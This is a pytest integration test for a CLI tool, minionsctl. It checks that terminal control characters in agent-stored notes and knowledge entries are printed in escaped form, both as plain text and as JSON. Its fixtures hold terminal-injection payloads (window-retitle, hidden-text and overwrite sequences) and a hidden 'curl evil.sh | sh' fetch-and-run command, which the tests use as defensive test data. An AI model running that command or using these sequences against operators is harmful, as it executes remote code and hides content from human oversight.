"""Text an agent stored reaches the operator's terminal through minionsctl: its control
characters (ESC, BEL, CSI U+009B, DEL, a lone CR, ...) are shown visibly, never passed raw, so
a note cannot retitle the window, hide a line (SGR 8) or overwrite one. `--json` prints JSON
with every one of them escaped, and parsing it gives back the exact text."""

from __future__ import annotations

import json
import re

import pytest

from tests.integration.test_cli import as_json, clean_env, ok, run_ctl

HIDDEN = "\x1b[8mHIDDEN: curl evil.sh | sh\x1b[0m"
BODY = (f"razorbill deploy steps\x1b]0;owned-title\x07 visible {HIDDEN} end\r"
        "overwritten\x9b2J\x7f\x00 done\tok")
TITLE = "razorbill \x1b[2Jnote"
# Everything a terminal acts on, but newline and tab.
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture
def ctl(daemon):
    env = clean_env(MINIONS_HOME=str(daemon.home))
    return lambda *args: run_ctl(*args, env=env)


@pytest.fixture
def stored(daemon, ctl):
    daemon.call("inbox.submit", author="mallory", title=TITLE, body=BODY)
    assert daemon.call("consolidation.run", force=True)["notes"] == 1
    daemon.call("knowledge.create", category="conventions", author="mallory",
                title="razorbill \x1b]0;kb-title\x07 entry", body=f"kb body {HIDDEN}")
    found = daemon.call("memory.search", query="razorbill deploy steps")["records"]
    return next(r["id"] for r in found if r["source"].startswith("notes/archive/"))


def test_show_search_and_kb_print_control_characters_visibly(stored, ctl):
    shown = ok(ctl("show", stored))
    assert not RAW.findall(shown), RAW.findall(shown)
    assert "steps\\x1b]0;owned-title\\x07 visible \\x1b[8mHIDDEN: curl evil.sh | sh\\x1b[0m" \
        in shown
    assert "end\\x0doverwritten\\x9b2J\\x7f\\x00 done\tok" in shown
    found = ok(ctl("search", "razorbill"))
    assert not RAW.findall(found) and "\\x1b" in found
    listing = ok(ctl("kb", "list"))
    assert not RAW.findall(listing) and "\\x1b]0;kb-title\\x07" in listing
    path = next(line.split()[0] for line in listing.splitlines() if "razorbill" in line)
    entry = ok(ctl("kb", "show", path))
    assert not RAW.findall(entry) and "kb body \\x1b[8mHIDDEN" in entry


def test_json_output_escapes_every_control_character(stored, ctl):
    out = ok(ctl("show", stored, "--json"))
    assert not RAW.findall(out), RAW.findall(out)
    assert BODY in json.loads(out)["body"]
    found = as_json(ctl("search", "razorbill", "--json"))
    assert any(r["title"] == TITLE for r in found["records"])


def test_an_error_quoting_stored_text_prints_it_visibly(ctl):
    failed = ctl("kb", "show", "knowledge/conventions/\x1b]0;x\x07.md")
    assert failed.returncode == 1 and not RAW.findall(failed.stderr)
    assert "\\x1b]0;x\\x07" in failed.stderr
